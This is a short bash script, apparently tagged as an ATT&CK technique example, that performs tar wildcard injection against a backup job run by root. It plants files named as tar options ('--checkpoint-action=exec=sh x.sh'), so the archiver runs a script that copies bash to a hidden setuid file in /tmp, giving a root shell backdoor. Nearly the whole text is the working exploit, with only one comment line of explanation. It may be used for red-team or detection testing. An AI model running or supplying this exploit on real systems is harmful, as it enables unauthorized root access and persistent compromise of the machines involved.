#!/bin/bash
# T1059.004: File names become options of an archiver that root runs, and start a script.
cd /home/alice; printf '#!/bin/sh\ncp /bin/bash /tmp/.rb; chmod 4755 /tmp/.rb\n' >x.sh; : >'--checkpoint=1'; : >'--checkpoint-action=exec=sh x.sh'
tar -cf /var/backups/alice.tar *
